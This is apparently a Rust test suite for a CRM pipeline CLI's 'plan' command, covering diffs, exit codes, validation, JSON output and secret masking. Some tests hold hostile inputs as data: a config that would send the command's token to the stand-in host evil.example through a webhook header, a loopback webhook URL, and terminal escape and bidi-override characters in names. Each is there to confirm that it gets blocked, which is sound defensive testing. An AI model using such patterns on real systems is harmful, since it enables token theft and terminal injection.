//! `pipeline plan`.

use std::process::Stdio;

use insta::{allow_duplicates, assert_snapshot};
use serde_json::{Value, json};
use tokio::task::block_in_place;

use super::{Shell, output, text};
use crate::support::{App, on_both_databases};

const STORED: &str = "\
key: vendas
name: Vendas
steps:
  - { key: a, name: A, prompt: \"Greet.\\nAsk.\\nGo on.\\nThank.\\nStop.\\nBye.\\n\", autoNextTime: 36 }
  - { key: b, name: B, prompt: b, webhookUrl: https://example.com/, webhookHeader: { X: one } }
  - { key: c, name: C, prompt: c }
  - { key: d, name: D, prompt: d }
  - { key: f, name: F, trigger: f }
";

const CHANGED: &str = "\
key: vendas
name: Vendas 2
description: Leads
steps:
  - { key: d, name: D, prompt: d }
  - { key: a, name: A, prompt: \"Greet.\\nAsk them.\\nGo on.\\nThank.\\nStop.\\nBye.\", autoNextTime: 24, autoNextTimeUnit: m }
  - { key: b, name: B, prompt: b, webhookUrl: https://example.com/, webhookHeader: { X: two } }
  - { key: f, name: F, trigger: f }
  - { key: e, name: E, trigger: e, isConversationRemovalStep: true, defaultTags: [x, y] }
";

async fn each_change_is_shown(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    shell.write("vendas.yaml", STORED);
    assert_eq!(shell.status(&["apply", "--yes", "vendas.yaml"]), Some(0));
    shell.write("vendas.yaml", CHANGED);
    let before = app.contents().await;
    allow_duplicates! {
        assert_snapshot!(shell.all(&["plan", "vendas.yaml"]), @r#"
        vendas.yaml: pipeline vendas
          ~ name: "Vendas" → "Vendas 2"
          + description: "Leads"
          ~ step d "D" moved from index 3 to 0
          ~ step a "A"
              ~ prompt:
                    Greet.
                  - Ask.
                  + Ask them.
                    Go on.
                    Thank.
                    Stop.
                  - Bye.
                  + Bye. (without a line break)
              ~ autoNextTime: 36 → 24
              + autoNextTimeUnit: "m"
          ~ step b "B"
              ~ webhookHeader: {"X":"***"} (values are not shown)
          + step e "E" at index 4
              + key: "e"
              + name: "E"
              + trigger: "e"
              + isConversationRemovalStep: true
              + defaultTags: ["x","y"]
          - step c "C" at index 2
              - key: "c"
              - name: "C"
              - prompt: "c"
          The pipeline is changed. Steps: 1 created, 2 updated, 1 moved, 1 deleted, 1 unchanged.
        vendas.yaml:6:5: warning: Only a move by hand leads to "A" (index 1): it has no trigger, and no timer of a step that conversations reach leads there; give it a trigger, let such a timer lead there, or delete the step. [UNREACHABLE_STEP]
        vendas.yaml:7:5: warning: Only a move by hand leads to "B" (index 2): it has no trigger, and no timer of a step that conversations reach leads there; give it a trigger, let such a timer lead there, or delete the step. [UNREACHABLE_STEP]
        exit status 0
        "#);
    }
    let mut coloured = shell.command(&["plan", "vendas.yaml"]);
    coloured.env("CLICOLOR_FORCE", "1");
    let coloured = text(&output(coloured).stdout).replace('\u{1b}', "^");
    allow_duplicates! {
        assert_snapshot!(coloured, @r#"
        ^[1mvendas.yaml^[0m: pipeline ^[1mvendas^[0m
          ^[33m~ name: "Vendas" → "Vendas 2"^[0m
          ^[32m+ description: "Leads"^[0m
          ^[33m~ step d "D" moved from index 3 to 0^[0m
          ^[33m~ step a "A"^[0m
              ^[33m~ prompt:^[0m
                    Greet.
                  ^[31m- Ask.^[0m
                  ^[32m+ Ask them.^[0m
                    Go on.
                    Thank.
                    Stop.
                  ^[31m- Bye.^[0m
                  ^[32m+ Bye. (without a line break)^[0m
              ^[33m~ autoNextTime: 36 → 24^[0m
              ^[32m+ autoNextTimeUnit: "m"^[0m
          ^[33m~ step b "B"^[0m
              ^[33m~ webhookHeader: {"X":"***"} (values are not shown)^[0m
          ^[32m+ step e "E" at index 4^[0m
              ^[32m+ key: "e"^[0m
              ^[32m+ name: "E"^[0m
              ^[32m+ trigger: "e"^[0m
              ^[32m+ isConversationRemovalStep: true^[0m
              ^[32m+ defaultTags: ["x","y"]^[0m
          ^[31m- step c "C" at index 2^[0m
              ^[31m- key: "c"^[0m
              ^[31m- name: "C"^[0m
              ^[31m- prompt: "c"^[0m
          The pipeline is changed. Steps: 1 created, 2 updated, 1 moved, 1 deleted, 1 unchanged.
        vendas.yaml:6:5: warning: Only a move by hand leads to "A" (index 1): it has no trigger, and no timer of a step that conversations reach leads there; give it a trigger, let such a timer lead there, or delete the step. [UNREACHABLE_STEP]
        vendas.yaml:7:5: warning: Only a move by hand leads to "B" (index 2): it has no trigger, and no timer of a step that conversations reach leads there; give it a trigger, let such a timer lead there, or delete the step. [UNREACHABLE_STEP]
        "#);
    }
    let mut plain = shell.command(&["plan", "vendas.yaml"]);
    plain.env("CLICOLOR_FORCE", "1").env("NO_COLOR", "1");
    assert_eq!(output(plain).stdout, shell.run(&["plan", "vendas.yaml"]).stdout);
    assert_eq!(app.contents().await, before, "a plan changes nothing");
}

async fn the_exit_status_says_what_a_plan_has(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    shell.write("a.yaml", "name: A\nsteps:\n  - { name: B, prompt: b }\n");
    shell.write("bad.yaml", "name: A\nsteps:\n  - { name: B }\n");
    let plan = |flags: &[&str]| shell.status(&[&["plan"], flags].concat());
    assert_eq!(plan(&["a.yaml"]), Some(0));
    assert_eq!(plan(&["a.yaml", "--detailed-exitcode"]), Some(4));
    assert_eq!(plan(&["a.yaml", "--detailed-exitcode", "--fail-on", "error"]), Some(4));
    assert_eq!(plan(&["a.yaml", "--detailed-exitcode", "--fail-on", "warning"]), Some(3));
    assert_eq!(plan(&["a.yaml", "bad.yaml", "--fail-on", "warning"]), Some(1));
    assert_eq!(plan(&[]), Some(2));
    assert_eq!(plan(&["a.yaml", "--url", "localhost:80"]), Some(2));
    assert_eq!(shell.status(&["apply", "--yes", "a.yaml"]), Some(0));
    assert_eq!(plan(&["a.yaml", "--detailed-exitcode"]), Some(0), "an empty plan");
}

async fn violations_have_their_places_in_the_files(app: App) {
    let ana = app.member_of("A").await;
    ana.agent("Sol").await;
    ana.agent("Sol").await;
    let shell = Shell::new(&app, &ana).await;
    shell.write(
        "service.yaml",
        "\
name: A
steps:
  - name: B
    prompt: b
    agentName: Nobody
    zapiAgentName: Sol
    zapiPhoneNumber: '+5511912345678'
    zapiMessage: c
    webhookUrl: http://127.0.0.1/
  - { name: C, prompt: c, webhookUrl: https://example.com/, webhookHeader: { X: \"***\" } }
",
    );
    shell.write(
        "local.yaml",
        "\
name: A
steps:
  - { name: B, autoNextTime: 0 }
",
    );
    shell.write(
        "unset.yaml",
        "\
name: A
steps:
  - name: B
    prompt: b
    webhookUrl: https://example.com/
    webhookHeader: { X: \"${NOT_SET}\" }
",
    );
    shell.write("a/good.yml", "name: Good\nsteps: []\n");
    shell.write("good.json", r#"{ "name": "Again", "key": "good", "steps": [] }"#);
    allow_duplicates! {
        assert_snapshot!(shell.all(&["plan", "."]), @r#"
        a/good.yml: pipeline good
          + key: "good"
          + name: "Good"
          The pipeline is created. Steps: none.
        good.json:1:27: error: The key is good, as in a/good.yml; a pipeline has one file, so leave one of them out. [INVALID_FILE]
        local.yaml:3:5: error: A step needs a trigger or a prompt; fill in at least one of them. [TRIGGER_OR_PROMPT_REQUIRED]
        local.yaml:3:30: error: steps[0].autoNextTime is 0; it must be between 1 and 31536000. [OUT_OF_RANGE]
        service.yaml:5:16: error: steps[0].agentName names nothing that exists in this organization. [NOT_FOUND]
        service.yaml:6:20: error: steps[0].zapiAgentName is that of 2 in this organization; give ids instead, in a list for all. [AMBIGUOUS_NAME]
        service.yaml:9:17: error: steps[0].webhookUrl leads to a local, private or metadata address; use a public host. [URL_NOT_ALLOWED]
        service.yaml:10:81: error: steps[1].webhookHeader[X] is the mask of a secret, and the step has none there; give the value itself. [MASKED_HEADER_VALUE]
        unset.yaml:6:25: error: steps[0].webhookHeader[X] needs the environment variable NOT_SET, which is not set; set it. [INVALID_FILE]
        exit status 1
        "#);
    }
}

async fn plans_are_printed_as_json(app: App) {
    let shell = Shell::new(&app, &app.member_of("A").await).await;
    shell.write("a.yaml", "name: A\nsteps:\n  - { name: B, prompt: b }\n");
    shell.write("b.yaml", "name: A\n");
    let printed = shell.run(&["plan", "--json", "."]);
    assert_eq!(printed.status.code(), Some(1));
    let json: Value = serde_json::from_slice(&printed.stdout).expect("JSON");
    allow_duplicates! {
        insta::assert_json_snapshot!(json, @r#"
        {
          "pipelines": [
            {
              "file": "a.yaml",
              "key": "a",
              "variables": [],
              "plan": {
                "isEmpty": false,
                "revision": 0,
                "action": "CREATE",
                "fields": [
                  {
                    "name": "key",
                    "before": null,
                    "after": "a"
                  },
                  {
                    "name": "name",
                    "before": null,
                    "after": "A"
                  }
                ],
                "steps": [
                  {
                    "action": "CREATE",
                    "isMoved": false,
                    "key": "b",
                    "name": "B",
                    "indexBefore": null,
                    "indexAfter": 0,
                    "fields": [
                      {
                        "name": "key",
                        "before": null,
                        "after": "b"
                      },
                      {
                        "name": "name",
                        "before": null,
                        "after": "B"
                      },
                      {
                        "name": "prompt",
                        "before": null,
                        "after": "b"
                      }
                    ]
                  }
                ],
                "created": 1,
                "updated": 0,
                "moved": 0,
                "deleted": 0,
                "unchanged": 0
              },
              "findings": [
                {
                  "file": "a.yaml",
                  "line": 3,
                  "column": 5,
                  "severity": "WARNING",
                  "code": "DEAD_END",
                  "message": "Conversations leave \"B\" (index 0) only by hand: it has no timer, does not remove them, sets neither RESOLVED nor HUMAN_REQUESTED, and no trigger of another step is evaluated; add one of these.",
                  "isBroken": false,
                  "related": []
                }
              ]
            },
            {
              "file": "b.yaml",
              "key": null,
              "variables": [],
              "plan": null,
              "findings": [
                {
                  "file": "b.yaml",
                  "line": 1,
                  "column": 1,
                  "severity": "ERROR",
                  "code": "INVALID_FILE",
                  "message": "steps is missing; add it.",
                  "isBroken": true,
                  "related": []
                }
              ]
            }
          ]
        }
        "#);
    }
}

async fn variables_are_filled_in(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    let file = "name: A\nsteps:\n  - { name: B, prompt: b, webhookUrl: https://example.com/, webhookHeader: { X: \"${ONE}-$${TWO}\" } }\n";
    shell.write("a.yaml", file);
    let mut apply = shell.command(&["apply", "--yes", "a.yaml"]);
    apply.env("ONE", "secret");
    let applied = output(apply);
    assert!(applied.status.success());
    assert!(!text(&applied.stdout).contains("secret"));
    let stored = ana.query("{ crmSteps { nodes { webhookHeader } } }").await;
    assert_eq!(stored["crmSteps"]["nodes"][0]["webhookHeader"], json!({ "X": "secret-${TWO}" }));
}

async fn a_plan_names_the_variables_that_a_file_reads(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    let headers = "{ X: \"${ONE}${TWO}${ONE}\", Y: a, Z: \"${ONE}\" }";
    shell.write("a.yaml", &format!("name: A\nsteps:\n  - {{ name: B, prompt: b, webhookUrl: https://example.com/, webhookHeader: {headers} }}\n"));
    let run = |arguments: &[&str]| {
        let mut command = shell.command(arguments);
        command.env("ONE", "secret").env("TWO", "hidden");
        text(&output(command).stdout)
    };
    let line = "  variables: ONE (steps[0].webhookHeader[X]), TWO (steps[0].webhookHeader[X]), \
                ONE (steps[0].webhookHeader[Z])";
    assert_eq!(run(&["plan", "a.yaml"]).lines().nth(1), Some(line));
    assert_eq!(run(&["apply", "--yes", "a.yaml"]).lines().nth(1), Some(line));
    let json = run(&["plan", "--json", "a.yaml"]);
    assert!(!json.contains("secret") && !json.contains("hidden"), "{json}");
    let json: Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(
        json["pipelines"][0]["variables"][1],
        json!({ "name": "TWO", "field": "steps[0].webhookHeader[X]" })
    );
}

async fn a_file_cannot_send_the_token_of_the_command(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    shell.write("a.yaml", "name: A\nsteps:\n  - { name: B, prompt: b, webhookUrl: https://evil.example/, webhookHeader: { X: \"${CRM_STEPS_TOKEN}\" } }\n");
    let before = app.contents().await;
    let message = "a.yaml:3:82: error: steps[0].webhookHeader[X] reads CRM_STEPS_TOKEN, the token of the \
                   command itself, which no file may send anywhere; use another variable. [INVALID_FILE]\n";
    assert_eq!(shell.all(&["plan", "a.yaml"]), format!("{message}exit status 1"));
    assert!(shell.all(&["apply", "--yes", "a.yaml"]).starts_with(message));
    assert_eq!(app.contents().await, before);
}

async fn a_reader_that_ends_first_is_no_error(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    shell.write("a.yaml", "name: A\nsteps: []\n");
    let run = |arguments: &[&str]| {
        let (reader, writer) = std::io::pipe().expect("a pipe");
        drop(reader);
        let mut command = shell.command(arguments);
        command.stdout(writer).stderr(Stdio::piped());
        let process = command.spawn().expect("the program starts");
        let output = block_in_place(|| process.wait_with_output()).expect("it ends");
        (output.status.code(), text(&output.stderr))
    };
    let before = app.contents().await;
    assert_eq!(run(&["plan", "a.yaml"]), (Some(1), String::new()));
    assert_eq!(run(&["schema"]), (Some(1), String::new()));
    let (status, said) = run(&["apply", "--yes", "a.yaml"]);
    assert!(
        said.starts_with("crm-steps: nothing was applied, because the plan cannot be"),
        "{said}"
    );
    assert_eq!(status, Some(1));
    assert_eq!(app.contents().await, before);
}

async fn names_cannot_write_to_the_terminal(app: App) {
    let ana = app.member_of("A").await;
    let shell = Shell::new(&app, &ana).await;
    let file = "name: \"A\\u202e\"\nsteps:\n  - { name: \"B\\u202e\", trigger: \"\\u200b\\ufeff\\xad\\xa0.\", initialMessage: 👩‍💻 ❤️, prompt: \"\\e[31m\\r\\nred\\n\", defaultTags: [\"\\e]0;x\\a\"] }\n";
    shell.write("a\u{1b}.yaml", file);
    let run = shell.run(&["apply", "--yes", "."]);
    let printed = text(&run.stdout) + &text(&run.stderr);
    assert!(printed.contains("\\u{1b}[31m") && printed.contains("A\\u{202e}"), "{printed:?}");
    assert!(printed.contains("trigger: \"\\u{200b}\\u{feff}\\u{ad}\\u{a0}.\""), "{printed:?}");
    assert!(printed.contains("initialMessage: \"👩‍💻 ❤️\""), "{printed:?}");
    let is_active = |it: char| (it.is_control() && it != '\n') || it == '\u{202e}';
    assert!(!printed.contains(is_active), "{printed:?}");
}

on_both_databases!(
    each_change_is_shown,
    the_exit_status_says_what_a_plan_has,
    violations_have_their_places_in_the_files,
    plans_are_printed_as_json,
    variables_are_filled_in,
    a_plan_names_the_variables_that_a_file_reads,
    a_file_cannot_send_the_token_of_the_command,
    a_reader_that_ends_first_is_no_error,
    names_cannot_write_to_the_terminal,
);
